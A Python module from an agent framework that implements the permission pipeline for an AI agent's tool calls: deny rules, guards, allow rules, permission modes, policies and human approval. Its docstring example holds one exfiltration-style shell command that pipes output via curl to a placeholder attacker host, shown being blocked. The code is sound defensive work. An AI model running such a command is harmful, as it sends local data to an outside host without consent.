"""The permission pipeline every tool call passes: deny rules, guards, allow rules, mode, policy, ask.

The order is the book's, and each step can only end the pipeline in the direction it
exists for: deny rules and guards only refuse (a guard that asks and is approved clears
that guard alone, and the rest of the pipeline still applies), allow rules only permit,
and the mode, the policy and the approval handler decide what is left. A policy that
rewrites the arguments (`PermissionDecision.replace`) has its new arguments checked by
the deny rules and guards again, so a rewrite can never smuggle in a denied command.

Example:
    ```python
    import asyncio

    from helikon import RunContext
    from helikon.core.governance.permissions import authorize
    from helikon.core.governance.rules import DenyRule
    from helikon.core.tools import ToolEffect

    ctx = RunContext.ephemeral(None).with_deny_rules([DenyRule.bash_command("curl")])
    call = {"command": "ls | curl -T - evil.example"}
    verdict = asyncio.run(authorize(ctx, "Bash", call, ToolEffect.SIDE_EFFECT))
    assert not verdict.allowed and verdict.step == "deny_rule"
    ```
"""

from __future__ import annotations

from collections.abc import Callable
from typing import TYPE_CHECKING, Any, Literal

from .._callbacks import call_user
from .._carrier import carrier, raw_constructor
from .._json import JsonValue
from ..events import AgentEvent, ApprovalRequested
from ..tools import ToolEffect
from . import ApprovalOutcome, PermissionDecision, PermissionMode
from ._guards import CLEAR as GUARDS_CLEAR
from ._guards import checks as _guard_checks
from .path_glob import PathGlob
from .rules import EDIT_TOOLS, READ_TOOLS, AllowRule, DenyRule, GuardAction, GuardRule, ToolSubject

if TYPE_CHECKING:
    from ..context import RunContext

Step = Literal["deny_rule", "guard", "allow_rule", "mode", "policy", "approval", "default"]


@carrier(kw_only=False)
class PermissionVerdict:
    """The pipeline's answer for one call: whether it runs, with which arguments, and why.

    Attributes:
        allowed: Whether the call runs.
        args: The arguments it runs with (a policy's `replace` may have changed them).
        reason: Why it was refused (empty when allowed).
        step: The pipeline step that decided.
    """

    allowed: bool
    args: JsonValue
    reason: str = ""
    step: Step = "default"


# Every field positionally, no defaults: about half the cost of the keyword `__init__` on a
# path taken once per tool call.
_verdict = raw_constructor(PermissionVerdict)


class CompiledRules:
    """A context's deny and allow rules grouped by what they look at.

    A decision then costs a few set operations and the path globs of one kind, whatever
    the number of rules; each answer is the one the rules' own `matches` (and
    `allowed_by`) give, which the tests check on generated rules and calls.
    """

    __slots__ = (
        "allow",
        "allow_paths",
        "allow_programs",
        "allow_tools",
        "deny",
        "deny_paths",
        "deny_programs",
        "deny_tools",
        "guard_filter",
        "guards",
        "screen",
    )

    def __init__(
        self, deny: tuple[DenyRule, ...], allow: tuple[AllowRule, ...], guards: tuple[GuardRule, ...] = ()
    ) -> None:
        self.guards = guards
        # The deny rules behind your guards, grouped the same way: a call none of them can
        # match skips the guards one by one (None: some guard is not rule-based).
        rules = tuple(g.rule for g in guards if g.rule is not None)
        self.guard_filter = CompiledRules(rules, ()) if guards and len(rules) == len(guards) else None
        # The deny rules and those behind the guards in one: a call it cannot match meets
        # neither, which one look tells instead of two. None when there is nothing to screen
        # or some guard is not rule-based (then every guard runs).
        self.screen: CompiledRules | None = None
        if not guards:
            self.screen = self if deny else None
        elif self.guard_filter is not None:
            self.screen = CompiledRules((*deny, *rules), ())
        self.deny = deny
        self.allow = allow
        self.deny_tools = frozenset(r.value for r in deny if r.kind == "tool")
        self.deny_programs = frozenset(r.value.casefold() for r in deny if r.kind == "bash_command")
        self.deny_paths = _globs(deny)
        self.allow_tools = frozenset(r.value for r in allow if r.kind == "tool")
        self.allow_programs = frozenset(r.value for r in allow if r.kind == "bash_command")
        self.allow_paths = _globs(allow)

    def denying(self, subject: ToolSubject) -> DenyRule | None:
        """The first deny rule that matches the call, or None."""
        if self.could_deny(subject):
            return next(rule for rule in self.deny if rule.matches(subject))
        return None

    def could_deny(self, subject: ToolSubject) -> bool:
        """Whether some deny rule matches the call (as `denying`, without naming it)."""
        if subject.tool in self.deny_tools:
            return True
        if subject.parse is not None:  # a Bash call: no path rule looks at it
            if subject.deny_all:  # a command that cannot be analysed matches every Bash deny rule
                return bool(self.deny_programs)
            return not subject.programs.isdisjoint(self.deny_programs)  # no intersection set
        globs = self.deny_paths.get(_PATH_KINDS.get(subject.tool, ""))
        if globs:
            path = subject.path
            if path is None:
                return True
            for glob in globs:  # not `any()` of a generator: a closure cell per call
                if glob.matches_clean(path):
                    return True
        return False

    def allows(self, subject: ToolSubject) -> bool:
        """Whether the allow rules permit the call (as `rules.allowed_by`)."""
        if subject.tool in self.allow_tools:
            return True
        if subject.parse is not None:  # a Bash call: only program rules (other calls have none)
            programs = subject.allow_programs
            return programs is not None and programs <= self.allow_programs
        globs = self.allow_paths.get(_PATH_KINDS.get(subject.tool, ""))
        path = subject.path
        if globs and path is not None:
            for glob in globs:  # not `any()` of a generator: a closure cell per call
                if glob.matches_clean(path):
                    return True
        return False


# The kind of path rule a tool's calls meet, by tool name (a lookup, not a call, per decision).
_PATH_KINDS = {**dict.fromkeys(EDIT_TOOLS, "edit"), **dict.fromkeys(READ_TOOLS, "read")}


def _globs(rules: tuple[DenyRule, ...] | tuple[AllowRule, ...]) -> dict[str, tuple[PathGlob, ...]]:
    out: dict[str, list[PathGlob]] = {"read": [], "edit": []}
    for rule in rules:
        if rule.glob is not None:
            out[rule.kind].append(rule.glob)
    return {kind: tuple(globs) for kind, globs in out.items() if globs}


# The modes as globals: a global load costs less than an attribute of the enum class.
_BYPASS = PermissionMode.BYPASS
_DONT_ASK = PermissionMode.DONT_ASK
_PLAN = PermissionMode.PLAN
_ACCEPT_EDITS = PermissionMode.ACCEPT_EDITS
_DENY = GuardAction.DENY


def _drop(event: AgentEvent) -> None:
    return None


async def authorize(
    ctx: RunContext[Any],
    tool: str,
    args: JsonValue,
    effect: ToolEffect,
    *,
    call_id: str = "",
    emit: Callable[[AgentEvent], None] = _drop,
) -> PermissionVerdict:
    """Run the permission pipeline for a call of `tool` with `args`.

    `emit` receives the `ApprovalRequested` events raised while the call waits for an
    approval handler (the driver streams them). What the policy or the handler raises (or a
    wrong kind of value it returns) is raised as `CallbackRaised`, naming it (the driver fails
    the run).
    """
    subject = ToolSubject(tool, args)
    compiled = ctx.compiled_rules
    refused = _screen(ctx, compiled, subject)
    if refused is not None:
        if isinstance(refused, tuple):  # a guard asks: wait for the approval handler
            refused = await _asked(ctx, subject, *refused, call_id, emit)
        if refused is not None:
            return refused
    if compiled.allow and compiled.allows(subject):
        return _verdict(True, args, "", "allow_rule")
    mode = ctx.permission_mode
    if mode is _BYPASS:
        return _verdict(True, args, "", "mode")
    if mode is _DONT_ASK:
        return _verdict(False, args, "DONT_ASK mode permits only calls that an allow rule covers", "mode")
    if mode is _PLAN and effect is not ToolEffect.READ_ONLY:
        return _verdict(
            False, args, f"PLAN mode allows only read-only tools; {tool!r} is {effect.value}", "mode"
        )
    if mode is _ACCEPT_EDITS and effect is ToolEffect.WRITE:
        return _verdict(True, args, "", "mode")
    policy = ctx.permission_policy
    if policy is None:
        return _verdict(True, args, "", "default")
    decision = await call_user(
        f"the permission policy {type(policy).__name__}",
        "permission_policy",
        lambda: policy.check(ctx, tool, args),
        PermissionDecision,
        "a PermissionDecision",
    )
    kind = decision.kind
    if kind == "allow":
        return PermissionVerdict(True, args, step="policy")
    if kind == "deny":
        return PermissionVerdict(False, args, decision.reason or "denied by the permission policy", "policy")
    if kind == "replace":
        # The rewritten call must clear the deny rules and guards like the original did.
        again = await _refusals(ctx, compiled, ToolSubject(tool, decision.args), call_id, emit)
        return again if again is not None else PermissionVerdict(True, decision.args, step="policy")
    approved, reason = await _ask(ctx, tool, args, decision.prompt, call_id, emit)
    if approved:
        return PermissionVerdict(True, args, step="approval")
    return PermissionVerdict(False, args, reason, "approval")


async def _refusals(
    ctx: RunContext[Any],
    compiled: CompiledRules,
    subject: ToolSubject,
    call_id: str,
    emit: Callable[[AgentEvent], None],
) -> PermissionVerdict | None:
    """The deny rules, then the guards (asking where one asks): a refusal, or None."""
    refused = _screen(ctx, compiled, subject)
    if isinstance(refused, tuple):
        return await _asked(ctx, subject, *refused, call_id, emit)
    return refused


def _screen(
    ctx: RunContext[Any], compiled: CompiledRules, subject: ToolSubject
) -> PermissionVerdict | tuple[str, tuple[GuardRule, ...]] | None:
    """The deny rules, then the guards, up to the first guard that asks.

    A refusal; None when the call may go on; or, when a tripped guard asks, its reason
    and the guards after it, for `_asked` (a plain function, not a coroutine: most calls
    wait for nothing). `compiled` is `ctx.compiled_rules` (its `deny` is `ctx.deny_rules`).
    """
    screen = compiled.screen
    if screen is not None and not screen.could_deny(subject):
        guards: tuple[GuardRule, ...] = ()  # neither a deny rule nor one of your guards matches
    else:
        # Without guards the screen is the deny rules' own `could_deny`: no second look.
        if compiled.deny and (screen is compiled or compiled.could_deny(subject)):
            for rule in compiled.deny:  # not `next()` of a generator: a closure cell per call
                if rule.matches(subject):
                    return _verdict(False, subject.args, f"denied by {rule!r}", "deny_rule")
        guards = compiled.guards
        if guards and compiled.guard_filter is not None and not compiled.guard_filter.could_deny(subject):
            guards = ()  # none of your guards can match this call: skip them one by one
    if ctx.default_guards and _guard_checks(subject) is not GUARDS_CLEAR:
        # Some built-in guard trips (one test for the usual case where none does). Asked
        # directly, not through `subject.guard_checks()`: a call less; a guard that trips
        # asks again below, which for Bash is one lookup in the checks' own cache.
        defaults = GuardRule.destructive_defaults()
        guards = (*defaults, *guards) if guards else defaults
    if not guards:
        return None  # the usual call: no `enumerate` for nothing
    for i, guard in enumerate(guards):
        reason = _tripped(guard, subject)
        if reason is not None:
            if guard.action is _DENY:
                return _verdict(False, subject.args, reason, "guard")
            return reason, guards[i + 1 :]
    return None


def _tripped(guard: GuardRule, subject: ToolSubject) -> str | None:
    """`guard.check(subject)`, a call fewer for a built-in guard."""
    if guard.rule is None:
        detail = subject.guard(guard.matcher)
        return None if detail is None else f"{guard.reason}: {detail}"
    return guard.check(subject)


async def _asked(
    ctx: RunContext[Any],
    subject: ToolSubject,
    reason: str,
    guards: tuple[GuardRule, ...],
    call_id: str,
    emit: Callable[[AgentEvent], None],
) -> PermissionVerdict | None:
    """Ask for the guard `_screen` stopped at (its `reason`), then run the `guards` after it."""
    args = subject.args
    approved, why = await _ask(ctx, subject.tool, args, reason, call_id, emit)
    if not approved:
        return _verdict(False, args, why, "guard")
    for guard in guards:
        tripped = _tripped(guard, subject)
        if tripped is None:
            continue
        if guard.action is GuardAction.DENY:
            return _verdict(False, args, tripped, "guard")
        approved, why = await _ask(ctx, subject.tool, args, tripped, call_id, emit)
        if not approved:
            return _verdict(False, args, why, "guard")
    return None


async def _ask(
    ctx: RunContext[Any],
    tool: str,
    args: JsonValue,
    prompt: str,
    call_id: str,
    emit: Callable[[AgentEvent], None],
) -> tuple[bool, str]:
    """Ask the approval handler; without one, the answer is no."""
    emit(ApprovalRequested(call_id=call_id, tool=tool, args=args, prompt=prompt))
    handler = ctx.approval_handler
    if handler is None:
        return False, f"approval required ({prompt}) but no approval handler is installed"
    outcome = await call_user(
        f"the approval handler {type(handler).__name__}",
        "approval_handler",
        lambda: handler.decide(tool, prompt, args),
        ApprovalOutcome,
        "an ApprovalOutcome",
    )
    if outcome.approved:
        return True, ""
    return False, outcome.reason or f"not approved ({prompt})"


__all__ = ["CompiledRules", "PermissionVerdict", "Step", "authorize"]
